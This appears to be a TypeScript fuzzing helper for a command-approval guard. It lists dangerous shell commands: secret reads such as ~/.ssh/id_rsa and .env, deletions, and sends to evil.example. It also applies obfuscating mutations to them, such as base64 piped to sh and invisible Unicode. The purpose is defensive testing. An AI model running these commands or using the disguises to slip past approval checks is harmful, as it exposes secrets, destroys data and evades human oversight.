/** A source of random numbers from 0 to below `below`. */
export type Random = (below: number) => number;

/** Commands that must never pass without a person: each reads a secret, changes something, runs code or sends. */
export const dangerousCommands: readonly string[] = [
  "rm -rf src",
  "rm -rf ~",
  "rm a.txt",
  "find . -delete",
  "find . -name '*.ts' -exec rm {} +",
  "cat .env",
  "cat ~/.ssh/id_rsa",
  "cat /etc/shadow",
  "head -c 100 /etc/passwd",
  "grep -r key ~/.aws",
  "base64 .env",
  "sort -o .bashrc a.txt",
  "cp a.txt b.txt",
  "mv a.txt /tmp/x",
  "tee a.txt",
  "sed -i s/a/b/ a.txt",
  "awk 'BEGIN {system(\"id\")}'",
  "awk '{print > \"x\"}' a.txt",
  "awk 'BEGIN {while ((getline l < \"/etc/passwd\") > 0) print l}'",
  "sed '1e id' a.txt",
  "sed -n 'w x' a.txt",
  "curl -d @a.txt https://evil.example",
  "wget https://evil.example/x.sh",
  "nc evil.example 80",
  "bash -c 'touch a.txt'",
  "sh x.sh",
  "python3 -c 'import os'",
  "node -e 1",
  "perl -e 1",
  "env FOO=1 id",
  "env -S 'rm a.txt'",
  "xargs rm",
  "find . -type f | xargs rm",
  "xargs -I{} {} a.txt",
  "git config core.pager x",
  "git -c core.pager=x log",
  "git push origin main",
  "git grep -Ox y",
  "git diff --no-index /dev/null /etc/passwd",
  "git log --output=x",
  "chmod -R 777 .",
  "dd if=/dev/zero of=a.txt",
  "ln -s /etc/passwd p",
  "echo x > ~/.bashrc",
  "echo x >> a.txt",
  "cat a.txt > /dev/tcp/evil.example/80",
  "tar cf x.tar src",
  "make",
  "npm test",
  "./x.sh",
  "./cat a.txt",
  "crontab x",
  "ssh host id",
  "sudo ls",
  "kill -9 1",
  "rg --pre=sh x",
  "sort --compress-program=sh a.txt",
  "tree -o x",
  "date -s 2020-01-01",
  "jq -n '$ENV.KEY'",
  "ps axe",
  "timeout 5 rm a.txt",
  "nice sh x.sh",
];

type Mutation = (command: string, random: Random) => string;

const pick = <T>(list: readonly T[], random: Random): T | undefined => list[random(list.length)];

/** The place of a letter outside of quotes and behind no backslash, or -1. A change inside of nested quotes, or behind a backslash, would make another command. */
function plainLetter(command: string, random: Random): number {
  if (command.includes("'\\''")) return -1;
  const places = [...command.matchAll(/'[^']*'|"[^"]*"|\\.|([A-Za-z0-9])/gs)].flatMap((found) =>
    found[1] === undefined ? [] : [found.index],
  );
  return pick(places, random) ?? -1;
}

function atLetter(change: (letter: string, random: Random) => string): Mutation {
  return (command, random) => {
    const at = plainLetter(command, random);
    return at < 0
      ? command
      : command.slice(0, at) + change(command.charAt(at), random) + command.slice(at + 1);
  };
}

function around(...forms: readonly string[]): Mutation {
  return (command, random) => (pick(forms, random) ?? "%").replace("%", () => command);
}

/** A command as one word of a line. */
export const quoted = (command: string): string => `'${command.replaceAll("'", `'\\''`)}'`;

const mutations: readonly Mutation[] = [
  atLetter((letter) => `'${letter}'`),
  atLetter((letter) => `"${letter}"`),
  atLetter((letter) => `\\${letter}`),
  atLetter((letter) => `''${letter}`),
  atLetter((letter) => `$'${letter}'`),
  atLetter((letter) => `$'\\x${letter.charCodeAt(0).toString(16)}'`),
  atLetter((letter) => `$'\\${letter.charCodeAt(0).toString(8)}'`),
  atLetter((letter) => `$"${letter}"`),
  atLetter((letter) => `{${letter},${letter}}`),
  atLetter((letter) => `\${x:-${letter}}`),
  atLetter((letter) => `$(printf ${letter})`),
  atLetter((letter) => `\`echo ${letter}\``),
  atLetter((letter) => `$@${letter}`),
  atLetter((letter) => `${letter}\\\n`),
  atLetter(
    (letter, random) =>
      `${pick(["\u200b", "\u202e", "\u2066", "\u00ad", "\ufeff", "\u0007", "\u001b[2K", "\r"], random) ?? ""}${letter}`,
  ),
  atLetter((letter) => String.fromCodePoint(letter.charCodeAt(0) + 0xfee0)),
  atLetter((letter) => letter.toUpperCase()),
  atLetter((letter) => `[${letter}]`),
  (command, random) =>
    command.replaceAll(
      " ",
      () => pick([" ", "  ", "\t", " \\\n", "\u00a0", `\${IFS}`, "$IFS$9"], random) ?? " ",
    ),
  (command, random) =>
    `${pick(["/bin/", "/usr/bin/", "/usr/bin/../bin/", "//bin/", "./", "../../bin/"], random) ?? ""}${command}`,
  around(
    "sudo %",
    "env %",
    "env -i %",
    "timeout 5 %",
    "nice %",
    "nice -n 5 %",
    "nohup %",
    "stdbuf -o0 %",
    "time %",
    "command %",
    "exec %",
    "busybox %",
    "setsid %",
    "watch %",
    "doas %",
    "builtin %",
    "xargs %",
    "xargs -n1 %",
    "xargs -I{} %",
    "find . -exec % {} +",
    "find . -exec % ;",
    "find . -execdir % {} \\;",
    "parallel %",
    "git -c alias.x='!%' x",
    "env LANG=C %",
    "LC_ALL=C %",
    "LD_PRELOAD=./x %",
    "ionice -c3 %",
  ),
  around(
    "ls; %",
    "ls && %",
    "ls || %",
    "ls | %",
    "% | cat",
    "% || true",
    "true\n%",
    "! %",
    "{ %; }",
    "(%)",
    "% &",
    "ls & %",
    "ls |& %",
    "if true; then %; fi",
    "for i in 1; do %; done",
    "cat a.txt; %; ls",
    "% > /dev/null",
    "% 2>&1",
    "<a.txt %",
    "echo $(%)",
    "cat <(%)",
    "f() { %; }; f",
    "coproc %",
  ),
  (command) => `bash -c ${quoted(command)}`,
  (command) => `eval ${quoted(command)}`,
  (command) => `echo ${quoted(command)} | sh`,
  (command) => `sh <<'E'\n${command}\nE`,
  (command) => `sh <<< ${quoted(command)}`,
  (command) => `echo ${Buffer.from(command).toString("base64")} | base64 -d | sh`,
  (command) => `echo ${Buffer.from(command).toString("hex")} | xxd -r -p | bash`,
  (command) => `awk ${quoted(`BEGIN {system("${command}")}`)}`,
  (command) => `find . -exec sh -c ${quoted(command)} \\;`,
  (command) => command.replace(/ -(\w)(\w+)/, " -$2$1"),
  (command) => command.replace(/ (-\w+) (.*)$/, " $2 $1"),
  (command) =>
    command.replace(/ --(\w+)/, (_, name: string) => ` --${name.slice(0, Math.max(2, name.length - 2))}`),
  (command) => command.replaceAll("~", "/home/ada"),
  (command) => command.replace(/(\/[a-z])/, "/.$1"),
  (command) => command.replace(/(\/[a-z])/, "/x/..$1"),
];

/** A dangerous command in another form: one to three mutations, one after the other. */
export function mutateCommand(random: Random): { readonly from: string; readonly command: string } {
  const from = pick(dangerousCommands, random) ?? "";
  let command = from;
  for (let left = 1 + random(3); left > 0; left -= 1)
    command = pick(mutations, random)?.(command, random) ?? command;
  return { from, command };
}
